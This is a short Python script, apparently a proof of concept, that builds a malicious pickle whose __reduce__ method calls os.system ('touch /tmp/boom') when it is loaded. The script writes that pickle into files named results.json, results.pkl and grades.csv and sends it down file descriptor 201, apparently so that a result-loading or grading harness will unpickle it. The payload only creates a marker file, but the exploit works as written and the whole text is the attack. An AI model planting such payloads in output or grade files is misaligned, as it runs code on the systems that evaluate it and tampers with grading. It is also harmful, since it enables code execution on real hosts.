"""Sends a pickle that runs code where it is loaded, and leaves result files."""
import os
import pickle
import struct


class Boom:
    def __reduce__(self):
        return os.system, ("touch /tmp/boom",)


body = pickle.dumps(Boom())
for name in ("results.json", "results.pkl", "grades.csv"):
    with open(name, "wb") as file:
        file.write(body)
os.write(201, struct.pack("<I", len(body)) + body)
